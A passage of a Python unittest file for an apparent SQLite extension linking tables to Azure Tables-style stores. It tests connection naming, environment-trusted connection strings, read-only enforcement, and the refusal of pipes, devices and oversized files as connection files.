                 ("env:AZTABLES_CONNECTION_DEFAULT", store)]
        for in_file, named in same + other:
            with self.subTest(in_file=in_file, named=named), contextlib.closing(self.open(self.stored(in_file))) as db:
                db.execute("SELECT aztables_connect('mine', ?)", (named,)).fetchall()
                errors = self.run_all(db, ["SELECT * FROM remote"])
                self.assertEqual(bool(errors), (in_file, named) in other, errors)
                db.execute("SELECT aztables_disconnect('mine')").fetchall()
                self.assertTrue(self.run_all(db, ["SELECT * FROM remote"]))

    def test_forms_that_the_environment_trusts(self):
        path = self.stored(f"LocalStore={self.store}")
        os.environ["AZTABLES_TRUST"] = f"UseDevelopmentStorage=true\nLocalStore={self.store}"
        with contextlib.closing(self.open(path)) as db:
            db.execute("UPDATE remote SET N = N + 10")
        self.assertEqual([n for _, _, n in self.secrets()], [11, 12, 13])
        os.environ["AZTABLES_TRUST"] += ";ReadOnly=true"
        with contextlib.closing(self.open(path)) as db:
            self.assertEqual(db.execute("SELECT count(*) FROM remote").fetchall(), [(3,)])
            with self.assertRaisesRegex(sqlite3.Error, "read-only"):
                db.execute("UPDATE remote SET N = 0")

    def test_a_table_that_the_user_creates_names_its_form(self):
        path = self.folder / "own.db"
        with contextlib.closing(self.open(path)) as db:
            self.declare(db, "main.remote", f"LocalStore={self.store}")
            self.assertEqual(db.execute("SELECT count(*) FROM remote").fetchall(), [(3,)])
            self.assertEqual(db.execute("UPDATE remote SET N = N").rowcount, 3)
            db.execute("SELECT aztables_connect('mine', ?)", (f"LocalStore={self.store};ReadOnly=true",)).fetchall()
            with self.assertRaisesRegex(sqlite3.Error, "read-only"):
                db.execute("UPDATE remote SET N = 0")
        with contextlib.closing(self.open(path)) as db:
            self.assertTrue(self.run_all(db, ["SELECT * FROM remote"]))
            self.declare(db, "temp.again", f"LocalStore={self.store}")
            self.assertEqual(db.execute("SELECT count(*) FROM remote").fetchall(), [(3,)])

    def test_a_pipe_or_a_device_is_not_read(self):
        os.mkfifo(self.folder / "pipe")
        (self.folder / "large").write_text("LocalStore=x" + " " * 64 * 1024)
        for path in ("pipe", "large", "."):
            with self.subTest(path), contextlib.closing(self.open()) as db:
                with self.assertRaisesRegex(sqlite3.Error, "the connection file .* (ordinary file|too large)"):
                    db.execute("SELECT aztables_connect('x', ?)", (f"file:{self.folder}/{path}",))
        for path in ("/dev/zero", "/dev/tty", "/proc/self/fd"):
            with self.subTest(path), contextlib.closing(self.open()) as db, self.assertRaises(sqlite3.Error):
                db.execute("SELECT aztables_connect('x', ?)", (f"file:{path}",))
        (self.folder / "good").write_text(f"LocalStore={self.store}\n")
        with contextlib.closing(self.open()) as db:
            db.execute("SELECT aztables_connect('x', ?)", (f"file:{self.folder}/good",)).fetchall()


if __name__ == "__main__":
    host.enter()
    unittest.main()
